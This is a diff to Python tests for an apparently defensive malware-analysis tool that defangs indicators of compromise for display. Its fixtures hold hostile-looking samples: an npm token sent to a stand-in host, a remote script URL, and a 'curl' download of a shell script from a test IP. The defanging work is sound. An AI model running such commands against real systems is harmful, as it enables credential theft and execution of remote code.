@@ -8,9 +8,10 @@ import sample
 from msgspec.structs import replace
 
 from biopsy.formats import html, iocs, text
-from biopsy.formats.views.indicators import defanged, matrix, telling
+from biopsy.formats.views.indicators import defanged, matrix, telling, unlinked
 from biopsy.formats.wire import document
 from biopsy.model.attack import Attack, Technique
+from biopsy.model.behaviour import Behaviour, InFile, Kind
 from biopsy.model.dossier import Analysis, Classification, Ioc, IocType
 
 THEFT = Classification("credential-theft", "Credential theft", "It takes keys.", ())
@@ -61,6 +62,30 @@ def test_the_screen_names_what_is_telling_and_the_classes() -> None:
 
 def test_a_domain_is_left_to_its_url_and_what_is_shared_or_a_hash_is_not_telling() -> None:
     assert telling(told(sample.malicious())) == (FOUND[1], FOUND[2], FOUND[4])
+
+
+def test_a_pattern_of_an_address_is_not_telling_where_one_is_known_whole() -> None:
+    patterns = [Ioc(IocType.URL, f"https://drop.example/{end}", ()) for end in ("v-?-?", "v-$", "${x}")]
+    whole = Ioc(IocType.URL, "https://drop.example/v-linux?os=1", ())
+    alone = Ioc(IocType.URL, "https://other.example/v?", ())
+    assert telling(replace(sample.malicious(), iocs=(*patterns, whole, alone))) == (whole, alone)
+
+
+@pytest.mark.parametrize(
+    ("kind", "value", "shown"),
+    [
+        (Kind.CODE_REMOTE, "https://cdn.drop.example/a.b/c.js", "hxxps://cdn[.]drop[.]example/a.b/c.js"),
+        (
+            Kind.CANARY_LEAK,
+            "npm-token > drop.example:443 as clear",
+            "npm-token > drop[.]example:443 as clear",
+        ),
+        (Kind.NET_DNS, "a.drop.example", "a[.]drop[.]example"),
+        (Kind.PROCESS_EXEC, "curl http://192.0.2.1/x.sh -o x.sh", "curl hxxp://192[.]0[.]2[.]1/x.sh -o x.sh"),
+    ],
+)
+def test_a_mail_program_makes_no_link_of_evidence(kind: Kind, value: str, shown: str) -> None:
+    assert unlinked(Behaviour(kind, value, InFile("src/index.js", 3))) == f"{kind} {shown} @ src/index.js:3"
 
 
 def test_the_page_calls_those_of_a_benign_release_contacts() -> None:
